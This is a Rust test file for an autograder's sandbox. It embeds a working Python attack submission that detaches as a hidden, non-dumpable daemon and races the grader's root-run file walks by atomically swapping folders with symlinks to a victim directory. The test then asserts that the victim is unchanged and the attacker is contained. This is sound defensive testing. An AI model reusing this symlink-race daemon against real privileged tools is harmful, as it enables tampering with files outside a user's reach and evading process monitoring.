//! Issue 22: a hand-in that races the grader's own walks of its tree. Its build leaves a process behind (double
//! fork, `setsid`, an empty environment so no run marker finds it, non-dumpable), and each case runs the same loop in
//! its own copy: they swap folders and files of every tree of the uid they can reach (the built tree, each case's
//! copy, and folders of those copies held open while the grader removes them) with links to a victim outside,
//! as fast as it can, for the whole grading. Every walk the grader makes as root over a tree of the run's (taking
//! the built tree back, copying it for each case, measuring a running case's disk use, removing the copies and the
//! student's scratch folder) must leave the victim as it was, the attacker no marks, its classmate full marks, and
//! nothing of it alive or on disk once `grade` ends.

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Instant;

use referee::harness::model::SubmissionResult;

use crate::grade::{fixture, python};

/// The attacker: `build` starts the swapping daemon and returns; any other argument (a case) starts one too, swaps
/// in its own copy for a moment itself, then prints a wrong answer. The daemon writes what it did to
/// `<tally>/<pid>.count` (`swaps N held N places a,b`): exchanges made by name in a folder, exchanges made inside
/// folders it holds open, and the folders where an exchange succeeded.
const SWAPPER: &str = r#"import ctypes, os, sys, threading, time

HERE = os.path.dirname(os.path.abspath(__file__))
PAIRS = 4
libc = ctypes.CDLL(None, use_errno=True)
counts = {}  # (place, what) -> exchanges made


def exchange(dfd, a, b):
    # renameat2(RENAME_EXCHANGE): the folder and the link trade places atomically, so every look finds one or other.
    return libc.renameat2(dfd, a, dfd, b, 2) == 0


def hammer(key, fd, a, b):
    # As fast as it can (ctypes lets go of the GIL during the call), until the folder is out of its reach for good.
    made = failed = 0
    while failed < 20000:
        if exchange(fd, a, b):
            made += 1
            failed = 0
            if made % 64 == 0:
                counts[key] = made
        else:
            failed += 1
    counts[key] = made


def start(key, fd, a, b):
    threading.Thread(target=hammer, args=(key, fd, a.encode(), b.encode()), daemon=True).start()


def arm(place, victim_dir, victim_file):
    # The place just became reachable: links beside its folders and files, and inside its folders (held open, so
    # they can still be swapped after the place itself is closed).
    dfd = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
    for i in range(PAIRS):
        for name, target in ((f"d{i}", victim_dir), (f"f{i}", victim_file)):
            try:
                os.symlink(target, name + ".lnk", dir_fd=dfd)
            except OSError:
                pass
            start((place, "name"), dfd, name, name + ".lnk")
        try:
            held = os.open(f"d{i}", os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=dfd)
        except OSError:
            continue
        try:
            os.symlink(victim_dir, "inner.lnk", dir_fd=held)
        except OSError:
            pass
        start((place, "held"), held, "inner", "inner.lnk")


def daemonize():
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.execve(sys.executable, [sys.executable, os.path.abspath(__file__), "loop"], {})


def tally_line():
    names = sorted({os.path.relpath(place, os.path.dirname(HERE)) for (place, _), n in list(counts.items()) if n})
    by = lambda what: sum(n for (_, w), n in list(counts.items()) if w == what)
    return f"swaps {by('name')} held {by('held')} places {','.join(names)}\n"


def loop(seconds):
    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
    victim_dir, victim_file, tally = open(os.path.join(HERE, "target.txt")).read().split("\n")[:3]
    scratch = os.path.dirname(HERE)
    # A case's copy is its folder, or the folder `run` in it where it has a filesystem of its own.
    cases = [os.path.join(scratch, f"case-{i}") for i in range(4)]
    waiting = [HERE] + cases + [os.path.join(case, "run") for case in cases]
    end = time.monotonic() + seconds
    last = 0.0
    while time.monotonic() < end:
        for place in list(waiting):
            try:
                arm(place, victim_dir, victim_file)
                waiting.remove(place)
            except OSError:
                pass
        now = time.monotonic()
        if now - last > 0.05:
            last = now
            name = os.path.join(tally, str(os.getpid()))
            try:
                with open(name + ".tmp", "w") as f:
                    f.write(tally_line())
                os.rename(name + ".tmp", name + ".count")
            except OSError:
                pass
        time.sleep(0.0002)


if sys.argv[1:] == ["loop"]:
    loop(60)
elif sys.argv[1:] == ["build"]:
    daemonize()
    time.sleep(0.2)  # the daemon is swapping (with its marker gone) when the build ends
else:
    loop(0.3)  # the case's own copy, while the grader measures its disk use
    print("Move: 1", flush=True)
"#;

/// Owner, mode and bytes (a folder: its names) of `path` and everything under it, links not followed.
fn snapshot(path: &Path) -> Vec<(PathBuf, u32, u32, Vec<u8>)> {
    let meta = fs::symlink_metadata(path).unwrap();
    let mut seen = Vec::new();
    if meta.is_dir() {
        let mut names: Vec<PathBuf> = fs::read_dir(path).unwrap().map(|e| e.unwrap().path()).collect();
        names.sort();
        let listing = names.iter().map(|n| n.display().to_string()).collect::<Vec<_>>().join("\n");
        seen.push((path.to_path_buf(), meta.uid(), meta.mode(), listing.into_bytes()));
        for name in names {
            seen.extend(snapshot(&name));
        }
    } else {
        seen.push((path.to_path_buf(), meta.uid(), meta.mode(), fs::read(path).unwrap()));
    }
    seen
}

/// Processes anywhere whose command line names `dir`.
fn alive_under(dir: &Path) -> Vec<String> {
    let needle = dir.to_string_lossy().into_owned();
    fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_str().is_some_and(|n| n.bytes().all(|b| b.is_ascii_digit())))
        .filter_map(|e| {
            let cmdline = fs::read(e.path().join("cmdline")).ok()?;
            let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
            cmdline.contains(&needle).then(|| format!("{}: {cmdline}", e.file_name().to_string_lossy()))
        })
        .collect()
}

/// What the attacker's processes wrote to `tally`: (exchanges by name, exchanges in held folders, folders reached).
fn tally(dir: &Path) -> (u64, u64, Vec<String>) {
    let (mut swaps, mut held, mut places) = (0, 0, Vec::new());
    for entry in fs::read_dir(dir).unwrap().flatten() {
        if entry.path().extension() != Some(std::ffi::OsStr::new("count")) {
            continue;
        }
        let text = fs::read_to_string(entry.path()).unwrap();
        let words: Vec<&str> = text.split_whitespace().collect();
        swaps += words.get(1).and_then(|w| w.parse::<u64>().ok()).unwrap_or(0);
        held += words.get(3).and_then(|w| w.parse::<u64>().ok()).unwrap_or(0);
        places.extend(words.get(5).into_iter().flat_map(|w| w.split(',')).map(String::from));
    }
    places.sort();
    places.dedup();
    (swaps, held, places)
}

/// The victim, the attacker's tally folder and a class of two: `mallory` (the swapper) and `alice` (correct).
fn class(work: &Path) -> (PathBuf, PathBuf, PathBuf) {
    let victim = work.join("victim");
    fs::create_dir_all(victim.join("sub")).unwrap();
    fs::write(victim.join("keep.txt"), "kept by root\n").unwrap();
    fs::write(victim.join("sub/deep.txt"), "deeper\n").unwrap();
    // More entries than a 1 MiB disk budget (512 bytes each): a disk measurement that went through a link to
    // here would stop the attacker's case for its disk budget.
    fs::create_dir_all(victim.join("many")).unwrap();
    for i in 0..2500 {
        fs::write(victim.join(format!("many/{i}")), "").unwrap();
    }
    let file = work.join("victim.txt");
    fs::write(&file, "the victim's bytes\n").unwrap();
    for (path, mode) in
        [(&victim, 0o750), (&victim.join("sub"), 0o711), (&victim.join("keep.txt"), 0o640), (&file, 0o640)]
    {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    }
    let tally = work.join("tally");
    fs::create_dir_all(&tally).unwrap();
    fs::set_permissions(&tally, fs::Permissions::from_mode(0o777)).unwrap();
    let class = work.join("class");
    let mallory = class.join("mallory");
    fs::create_dir_all(&mallory).unwrap();
    fs::write(mallory.join("takestones.py"), SWAPPER).unwrap();
    fs::write(mallory.join("build.sh"), format!("{} \"$(dirname \"$0\")/takestones.py\" build\n", python())).unwrap();
    let target = format!("{}\n{}\n{}\n", victim.display(), file.display(), tally.display());
    fs::write(mallory.join("target.txt"), target).unwrap();
    for i in 0..4 {
        fs::create_dir_all(mallory.join(format!("d{i}/inner"))).unwrap();
        fs::write(mallory.join(format!("d{i}/inner/x.txt")), "x").unwrap();
        fs::write(mallory.join(format!("f{i}")), "f").unwrap();
    }
    let alice = class.join("alice");
    fs::create_dir_all(&alice).unwrap();
    fs::copy(fixture("submissions/python-stats/takestones.py"), alice.join("takestones.py")).unwrap();
    fs::write(alice.join("build.sh"), "exit 0\n").unwrap();
    Command::new("chmod").args(["-R", "a+rX"]).arg(&class).status().unwrap();
    (victim, file, class)
}

/// As root (CI), with no layer but the uid (`none`: the daemon outlives every run, so it races every walk of the
/// grading) and with every layer this machine has (Landlock refuses its links, the cgroup kills it after each run).
#[test]
fn a_daemon_swapping_its_folders_for_links_changes_nothing_outside_and_outlives_nothing() {
    if !Command::new("id").arg("-u").output().is_ok_and(|o| o.stdout.starts_with(b"0\n")) {
        eprintln!("SKIPPED hand_over_race: only as root does a run have a uid of its own to race the grader with");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path();
    fs::set_permissions(work, fs::Permissions::from_mode(0o755)).unwrap();
    let (victim, file, class) = class(work);
    let before = [snapshot(&victim), snapshot(&file)];
    let sandbox = Command::new(assert_cmd::cargo::cargo_bin("referee")).arg("sandbox").output().unwrap();
    let landlock = crate::sandbox::parse_layers(&String::from_utf8_lossy(&sandbox.stdout))
        .into_iter()
        .any(|(name, on, _)| name == "landlock" && on);
    for (set, layers) in [("none", Some("none")), ("full", None)] {
        let tally_dir = work.join("tally");
        for entry in fs::read_dir(&tally_dir).unwrap().flatten() {
            fs::remove_file(entry.path()).unwrap();
        }
        let scratch = work.join(format!("work-{set}"));
        fs::create_dir_all(&scratch).unwrap();
        let out = work.join(format!("out-{set}"));
        let mut command = Command::new(assert_cmd::cargo::cargo_bin("referee"));
        command.args(["grade", "--suite", "builtin:takestones-stats-2019", "--submissions"]).arg(&class);
        command.arg("--out").arg(&out).arg("--work").arg(&scratch);
        command.args([
            "--build",
            "sh {dir}/build.sh",
            "--cmd",
            &format!("{} {{dir}}/takestones.py {{args}}", python()),
        ]);
        command.args(["--disk-limit", "1MiB", "-j", "2", "--color", "never"]);
        if let Some(layers) = layers {
            command.args(["--sandbox-layers", layers]);
        }
        let start = Instant::now();
        let output = command.output().unwrap();
        let elapsed = start.elapsed();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{set}: {stderr}");
        // Nothing of the attacker is alive, nor anything left in the grader's work folder.
        let alive = alive_under(&scratch);
        let (swaps, held, places) = tally(&tally_dir);
        eprintln!("{set}: graded in {elapsed:?}; {swaps} swaps by name in {places:?}, {held} in folders held open");
        assert_eq!(alive, Vec::<String>::new(), "{set}: the attacker outlived the grading");
        assert_eq!(fs::read_dir(&scratch).unwrap().count(), 0, "{set}: left in the work folder");
        // Nothing outside changed: owner, mode, bytes, names.
        assert_eq!([snapshot(&victim), snapshot(&file)], before, "{set}: the victim was changed");
        let result = |id: &str| -> SubmissionResult {
            serde_json::from_slice(&fs::read(out.join(format!("results/{id}.json"))).unwrap()).unwrap()
        };
        let alice = result("alice");
        assert_eq!(alice.score, alice.max_score, "{set}: the classmate lost marks: {:?}", alice.cases);
        let mallory = result("mallory");
        assert_eq!(mallory.score, 0.0, "{set}: {:?}", mallory.cases);
        assert!(mallory.build.as_ref().is_some_and(|b| b.ok), "{set}: {:?}", mallory.build);
        for case in &mallory.cases {
            assert!(!case.detail.contains("disk budget"), "{set}: a disk measurement went through a link: {case:?}");
        }
        if set == "none" {
            // The race was run: the build's daemon swapped in the built tree until it was taken back, the cases'
            // in their copies, and inside folders of those copies while they were removed.
            assert!(places.iter().any(|p| p == "submission"), "{set}: never swapped in the built tree: {places:?}");
            assert!(places.iter().any(|p| p.starts_with("case-")), "{set}: never swapped in a case's copy: {places:?}");
            assert!(swaps > 1000 && held > 0, "{set}: too few swaps to race anything: {swaps}, {held}");
        } else if landlock {
            assert_eq!((swaps, held), (0, 0), "{set}: Landlock let a link be made or the tally be written");
        }
    }
}
